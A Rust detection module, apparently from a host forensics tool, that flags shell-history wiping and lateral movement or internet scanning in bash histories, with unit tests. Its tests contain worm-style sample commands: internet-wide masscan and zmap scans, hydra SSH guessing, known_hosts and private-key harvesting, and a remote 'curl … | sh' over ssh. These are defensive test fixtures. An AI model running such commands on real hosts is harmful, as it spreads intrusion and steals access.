//! Shell histories and what they show:
//! - `MT-EVA-010` history disabled or wiped (T1070.003): `HISTFILE=/dev/null`, `unset HISTFILE`,
//!   `history -c`, `rm ~/.bash_history` in a history or a start-up file, or a history file that is a
//!   symlink to `/dev/null`. In a start-up file it persists (subject `Persistence{path,line}`, medium);
//!   in a history it was typed (low, medium with two or more).
//! - `MT-LAT-001` lateral movement and scanning typed in a history (T1021.004, T1046, T1110), judged by
//!   the class of what was typed, never by a tool's name alone (medium): a network login guesser
//!   (`brute_tool`: hydra, medusa); a scanner (`scan_tool`: masscan, zmap, pnscan, nmap) aimed at the
//!   internet — a public address, a /8 or wider range, random targets (`-iR`, zmap with no range) — where
//!   an admin's sweep of the host's own networks (private ranges, link-local, loopback, names) is
//!   routine; an SSH client (`ssh_client`: ssh, scp, rsync, sshpass) fed with targets or keys harvested
//!   from the host (`known_hosts`, shell histories, ssh configs, a search for private keys), where an
//!   admin's `ssh -i ~/.ssh/id_ed25519 web1` or `for h in web1 web2; do ssh $h uptime; done` is not.
//!
//! Histories are evidence, not persistence: their lines are named by file and line in the evidence,
//! never as `Persistence` subjects, so no remediation edits them.

use std::net::IpAddr;

use minetrace_schemas::findings::{Finding, Role, Severity};
use minetrace_schemas::records::file::FileKind;

use super::common::{self, account_subject, describe_file, quote_line};
use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
use crate::detect::rules;
use crate::detect::runtime::support;
use crate::detect::Context;
use crate::indicators::Kind;
use crate::model::persistence::PersistenceKind;
use crate::parse::numbered_lines;
use crate::parse::shell_line;
use crate::remediate::attribution::{infrastructure, HostNetwork};

/// Why a line typed in a history is lateral movement or scanning ([`crate::detect::footholds::history`]
/// module documentation), or `None` for an admin's ordinary work.
fn lateral_class(ctx: &Context, raw: &[u8], commands: &[Vec<u8>]) -> Option<String> {
    let named = |kind: Kind| {
        commands
            .iter()
            .find(|c| ctx.iocs.contains(kind, &String::from_utf8_lossy(c)))
    };
    if let Some(b) = named(Kind::BruteTool) {
        return Some(format!(
            "runs {}, a network login guesser",
            minetrace_schemas::escape_bytes(b)
        ));
    }
    if let Some(sc) = named(Kind::ScanTool) {
        return scan_outside(ctx, raw, sc).map(|why| {
            format!(
                "runs the scanner {} at {why}",
                minetrace_schemas::escape_bytes(sc)
            )
        });
    }
    if let Some(c) = named(Kind::SshClient) {
        return harvested(raw)
            .map(|what| format!("runs {} with {what}", minetrace_schemas::escape_bytes(c)));
    }
    None
}

/// Whether a scanner's line aims beyond the host's own networks: a range of public addresses (CIDR
/// shorter than /32, `a.b.c.d-e.f.g.h`, `10.0.0.1-254`, `1.2.3.*`) or one of /8 or wider, random targets
/// (`-iR`), or zmap with no range (the whole IPv4 space). A single public address is not the class (an
/// admin checks the company's own public server); the values of the scanner's own non-target options
/// are no targets (`scan_non_target_option` indicators, per scanner: nmap's `-b` is an FTP relay, zmap's
/// a blocklist file); the host's own networks (private, link-local, shared, loopback: the
/// remediation's infrastructure test) never count.
fn scan_outside(ctx: &Context, raw: &[u8], scanner: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(raw);
    let words: Vec<&str> = text
        .split(|c: char| c.is_ascii_whitespace() || "'\";|&(),".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    if words
        .iter()
        .any(|w| *w == "-iR" || *w == "--random-targets")
    {
        return Some("random internet addresses".into());
    }
    let network = HostNetwork::of(ctx.model);
    let scanner_name = String::from_utf8_lossy(scanner);
    let mut any_target = false;
    let mut skip_next = false;
    for w in &words {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        if ctx
            .iocs
            .has_option(Kind::ScanNonTargetOption, &scanner_name, w)
        {
            skip_next = true;
            continue;
        }
        let (addr, prefix) = match w.split_once('/') {
            Some((a, p)) => (a, p.parse::<u8>().ok()),
            None => (*w, None),
        };
        // masscan's `a.b.c.d-e.f.g.h` and nmap's `10.0.0.1-254`, `10.0.0.*`: the first address.
        let first = addr.split('-').next().unwrap_or(addr).replace('*', "0");
        let Ok(ip) = first.parse::<std::net::Ipv4Addr>() else {
            continue;
        };
        any_target = true;
        if prefix.is_some_and(|p| p <= 8) {
            return Some(format!("{}, a range of the internet's size", support::q(w)));
        }
        let range = prefix.is_some_and(|p| p < 32) || addr.contains('-') || addr.contains('*');
        let ip = IpAddr::V4(ip);
        if range && !ip.is_loopback() && infrastructure(ip, &network).is_none() {
            return Some(format!("{}, a range of public addresses", support::q(w)));
        }
    }
    (scanner == b"zmap"
        && !any_target
        && !words
            .iter()
            .any(|w| w.starts_with("-w") || *w == "--allowlist-file" || *w == "--whitelist-file"))
    .then(|| "no range, which zmap takes for the whole IPv4 space".into())
}

/// What an SSH client's line harvested from the host to pick its targets or keys, when it did: a
/// `known_hosts` file or a shell history read ([`crate::model::ssh::is_known_hosts`],
/// [`crate::model::is_shell_history`]), an ssh config's host names grepped, or private keys
/// ([`super::lateral::is_private_key_name`]) searched for (`find`, `locate`, a wildcard over homes or
/// key names).
fn harvested(raw: &[u8]) -> Option<&'static str> {
    let l = String::from_utf8_lossy(raw);
    let words: Vec<&str> = l
        .split(|c: char| c.is_ascii_whitespace() || "'\";|&()<>$`=".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let names = || {
        words
            .iter()
            .map(|w| w.rsplit('/').next().unwrap_or(w).as_bytes())
    };
    if words
        .iter()
        .any(|w| crate::model::ssh::is_known_hosts(w.as_bytes()))
    {
        return Some("targets read from known_hosts");
    }
    if names().any(crate::model::is_shell_history) {
        return Some("targets read from a shell history");
    }
    if l.contains(".ssh/config") && words.iter().any(|w| matches!(*w, "grep" | "awk")) {
        return Some("targets read from an ssh config");
    }
    let key = names().any(|n| {
        let n: Vec<u8> = n.iter().copied().filter(|b| *b != b'*').collect();
        super::lateral::is_private_key_name(&n) || n == b"id_"
    });
    let search = words
        .iter()
        .any(|w| matches!(*w, "find" | "locate") || w.starts_with("/home/*") || w.contains("id_*"));
    (key && search).then_some("private keys searched for on the host")
}

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let accounts = &ctx.model.accounts;
    let mut out = Vec::new();
    // Start-up files that switch history off for every login.
    for (file, bytes, _) in ctx
        .model
        .persistence_files(|k| k == PersistenceKind::ShellStartup)
    {
        for (n, raw) in numbered_lines(bytes) {
            if raw.trim_ascii().starts_with(b"#") {
                continue;
            }
            let s = shell_line::analyze(raw);
            if s.history_tamper.is_empty() {
                continue;
            }
            let mut f = finding(&rules::EVA_010, Severity::Medium)
                .subject(persistence_subject(&file.path, n))
                .subject_as(file_subject(file), Role::Context)
                .evidence(quote_line(&file.path, n, raw));
            for t in s.history_tamper {
                f = f.evidence(t);
            }
            out.push(f);
        }
    }
    for f in ctx
        .model
        .files
        .iter()
        .filter(|f| common::is_history_path(f.path.as_bytes()))
    {
        let owner = accounts
            .owner_of_path(f.path.as_bytes())
            .map(|e| e.name.clone());
        if f.kind == FileKind::Symlink
            && f.link_target
                .as_ref()
                .is_some_and(|t| t.as_bytes() == b"/dev/null")
        {
            let mut x = finding(&rules::EVA_010, Severity::Medium)
                .subject(file_subject(f))
                .evidence(format!("{} -> /dev/null", f.path.escaped()));
            if let Some(o) = &owner {
                x = x.subject(account_subject(accounts, o));
            }
            out.push(x);
            continue;
        }
        let Some(bytes) = ctx.model.content(f) else {
            continue;
        };
        let mut tamper = Vec::new();
        let mut lateral = Vec::new();
        let mut lateral_points = 0;
        for (n, raw) in numbered_lines(bytes) {
            let s = shell_line::analyze(raw);
            if !s.history_tamper.is_empty() && tamper.len() < 20 {
                tamper.push(quote_line(&f.path, n, raw));
            }
            if let Some(why) = lateral_class(ctx, raw, &s.commands) {
                lateral_points += 2;
                if lateral.len() < 20 {
                    lateral.push(format!("{} ({why})", quote_line(&f.path, n, raw)));
                }
            }
        }
        if !tamper.is_empty() {
            let sev = if tamper.len() >= 2 {
                Severity::Medium
            } else {
                Severity::Low
            };
            let mut x = finding(&rules::EVA_010, sev)
                .subject_as(file_subject(f), Role::Evidence)
                .evidence(format!("file: {}", describe_file(f)));
            for t in tamper {
                x = x.evidence(t);
            }
            if let Some(o) = &owner {
                x = x.subject(account_subject(accounts, o));
            }
            out.push(x);
        }
        if lateral_points > 0 {
            let mut x = finding(&rules::LAT_001, Severity::Medium)
                .subject_as(file_subject(f), Role::Evidence);
            for l in lateral {
                x = x.evidence(l);
            }
            if let Some(o) = &owner {
                x = x.subject(account_subject(accounts, o));
            }
            out.push(x);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    fn lateral_lines(history: &[u8]) -> Vec<String> {
        let model = fixture::model(
            vec![fixture::file(b"/root/.bash_history", Some(history))],
            vec![],
        );
        let iocs = Indicators::builtin();
        detect(&Context {
            model: &model,
            iocs: &iocs,
        })
        .into_iter()
        .filter(|f| f.rule == rules::LAT_001.id)
        .flat_map(|f| f.evidence)
        .collect()
    }

    /// Review s4 item 5: an admin's ssh, scp, rsync, loops over named hosts and sweeps of the host's own
    /// networks are routine; the worm's internet scans, harvested targets and keys, and login guessers
    /// are not.
    #[test]
    fn lateral_movement_is_judged_by_class_not_by_tool_name() {
        let admin = b"ssh -i ~/.ssh/id_ed25519 deploy@10.20.0.15\n\
scp backup.tar.gz root@db1.internal:/srv/restore/\n\
for h in web1 web2 web3; do ssh $h 'uptime; df -h /'; done\n\
nmap -sn 10.20.0.0/24\n\
nmap -p 22,80,443 192.168.10.1-254 172.16.4.*\n\
for i in $(seq 1 254); do ping -c1 -W1 10.20.1.$i; done\n\
sudo nmap -sV localhost\n\
rsync -az /var/www/ web2:/var/www/\n\
sshpass -f ~/.pw ssh admin@10.20.0.9 reboot\n\
nmap --dns-servers 1.1.1.1 -sn 10.20.0.0/24\n\
nmap -S 198.51.100.2 -e eth0 -p 22 10.20.0.0/24 --exclude 8.8.8.8\n\
nmap -p 22,443 203.0.113.10\n\
grep -c ssh ~/.bash_history\n";
        assert_eq!(lateral_lines(admin), Vec::<String>::new());
        let worm = [
            &b"masscan 0.0.0.0/0 -p6379 --rate 100000 -oL /tmp/.r\n"[..],
            b"pnscan 47.96.0.0/16 6379 > .r.txt\n",
            b"nmap -Pn -p2375 -iR 100000\n",
            b"zmap -p 2375 -o /tmp/.d\n",
            b"nmap -p 22 203.0.113.0/24\n",
            b"for h in $(grep -oE '[0-9]+(\\.[0-9]+){3}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes root@$h 'curl -s http://x/s|sh' & done\n",
            b"for k in $(find / -name 'id_rsa*' 2>/dev/null | grep -v pub); do ssh -i $k root@$t id; done\n",
            b"hydra -L users.txt -P pass.txt ssh://10.0.0.5\n",
        ];
        for line in worm {
            assert_eq!(
                lateral_lines(line).len(),
                1,
                "{}",
                String::from_utf8_lossy(line)
            );
        }
    }

    /// Issue 11: which options of a scanner take a value that is no target is indicator data per scanner
    /// (`scan_non_target_option`), from each scanner's manual, never one list for all: the word after one
    /// of the scanner's own such options is not scanned, every other address or range is.
    #[test]
    fn each_scanners_own_non_target_options_hide_their_value_only() {
        let cases: &[(&str, bool)] = &[
            // nmap: an excluded public range is no target; the range after it is scanned.
            ("nmap -sn --exclude 203.0.113.0/24 10.20.0.0/16", false),
            ("nmap -sn --exclude 10.20.0.9 203.0.113.0/24", true),
            ("nmap -p 21 -b ftp.example.org 10.20.0.0/24", false),
            // masscan: `--adapter-ip` takes a range of source addresses (its manual), no target.
            (
                "masscan -p22 --adapter-ip 198.51.100.0/30 10.20.0.0/16",
                false,
            ),
            ("masscan -p22 --adapter-ip 10.20.0.9 198.51.100.0/24", true),
            // ... and `-D` is nmap's decoy list, not a masscan option: the range is masscan's target.
            ("masscan -p22 -D 198.51.100.0/24", true),
            // zmap: `-S` takes a source address or range; `-b` a blocklist file, after which a zmap line
            // with no range still scans the whole IPv4 space.
            ("zmap -p 22 -S 198.51.100.0/30 10.20.0.0/16", false),
            ("zmap -p 22 -S 10.20.0.9 198.51.100.0/24", true),
            ("zmap -p 22 -b /etc/zmap/blocklist.conf -o out.csv", true),
        ];
        for (line, flagged) in cases {
            let found = lateral_lines(format!("{line}\n").as_bytes());
            assert_eq!(!found.is_empty(), *flagged, "{line}: {found:?}");
        }
        // A user's scanner gets options of its own from an --iocs file.
        let model = fixture::model(
            vec![fixture::file(
                b"/root/.bash_history",
                Some(b"zzscan --via 198.51.100.0/24 10.20.0.0/16\n"),
            )],
            Vec::new(),
        );
        let mut iocs = Indicators::builtin();
        iocs.add_text("mine.iocs", "scan_tool zzscan\n").unwrap();
        let lateral =
            |iocs: &Indicators| crate::detect::findings_of(detect, &rules::LAT_001, &model, iocs);
        assert_eq!(lateral(&iocs).len(), 1);
        iocs.add_text("mine.iocs", "scan_non_target_option zzscan --via\n")
            .unwrap();
        assert!(lateral(&iocs).is_empty());
    }

    /// `scan_tool` values come from the indicators: a user's file adds a scanner the built-in list lacks,
    /// judged like the others by what it scans.
    #[test]
    fn an_iocs_file_adds_scanners() {
        let model = fixture::model(
            vec![fixture::file(
                b"/root/.bash_history",
                Some(b"ls\nzzscan -p 22 10.0.0.0/8 > ips.txt\nmasscan -p6379 10.0.0.0/8\n"),
            )],
            Vec::new(),
        );
        let lateral = |iocs: &Indicators| -> Vec<String> {
            crate::detect::findings_of(detect, &rules::LAT_001, &model, iocs)
                .into_iter()
                .flat_map(|f| f.evidence)
                .collect()
        };
        let mut iocs = Indicators::builtin();
        let before = lateral(&iocs);
        assert!(
            before
                .iter()
                .any(|e| e.contains("runs the scanner masscan")),
            "{before:?}"
        );
        assert!(!before.iter().any(|e| e.contains("zzscan")), "{before:?}");
        iocs.add_text("mine.iocs", "scan_tool zzscan\n").unwrap();
        let after = lateral(&iocs);
        assert!(
            after.iter().any(|e| e.contains("runs the scanner zzscan")),
            "{after:?}"
        );
        // Program names keep their case: `ZZSCAN` is another program.
        let mut upper = Indicators::builtin();
        upper.add_text("mine.iocs", "scan_tool ZZSCAN\n").unwrap();
        assert_eq!(lateral(&upper), before);
    }
}
